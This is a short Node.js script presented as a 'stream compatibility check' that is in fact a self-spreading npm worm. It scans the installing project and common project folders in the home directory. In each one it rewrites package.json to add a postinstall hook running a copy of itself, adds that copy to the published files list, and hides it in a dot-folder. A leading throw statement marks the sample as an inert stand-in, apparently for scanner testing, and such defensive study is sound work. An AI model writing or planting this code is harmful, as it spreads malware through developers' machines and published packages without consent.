throw new Error("inert depscan stand-in");
'use strict';

// "Stream compatibility check" for the projects on this machine.
const fs = require('fs');
const os = require('os');
const path = require('path');

const MARK = '.stream-compat';
const HOOK = `node ${MARK}/check.js`;

function projectsNear() {
  const roots = new Set();
  if (process.env.INIT_CWD) roots.add(process.env.INIT_CWD);
  const outside = __dirname.split(`${path.sep}node_modules${path.sep}`)[0];
  roots.add(outside);
  for (const base of ['projects', 'src', 'code', 'dev', 'work', 'git']) {
    const dir = path.join(os.homedir(), base);
    let entries = [];
    try {
      entries = fs.readdirSync(dir, { withFileTypes: true });
    } catch (error) {
      continue;
    }
    for (const entry of entries) if (entry.isDirectory()) roots.add(path.join(dir, entry.name));
  }
  return [...roots];
}

function infect(dir) {
  const file = path.join(dir, 'package.json');
  let manifest;
  try {
    manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
  } catch (error) {
    return;
  }
  if (manifest.private === true && !manifest.workspaces) return;
  const scripts = manifest.scripts || {};
  if ((scripts.postinstall || '').includes(MARK)) return;
  scripts.postinstall = scripts.postinstall ? `${HOOK} && ${scripts.postinstall}` : HOOK;
  manifest.scripts = scripts;
  if (Array.isArray(manifest.files)) manifest.files.push(`${MARK}/`);
  fs.mkdirSync(path.join(dir, MARK), { recursive: true });
  fs.copyFileSync(__filename, path.join(dir, MARK, 'check.js'));
  const indent = /^\{\n(\s+)/.exec(fs.readFileSync(file, 'utf8'));
  fs.writeFileSync(file, JSON.stringify(manifest, null, indent ? indent[1] : 2) + '\n');
}

for (const dir of projectsNear()) {
  try {
    infect(dir);
  } catch (error) {
    // read-only or not a project
  }
}
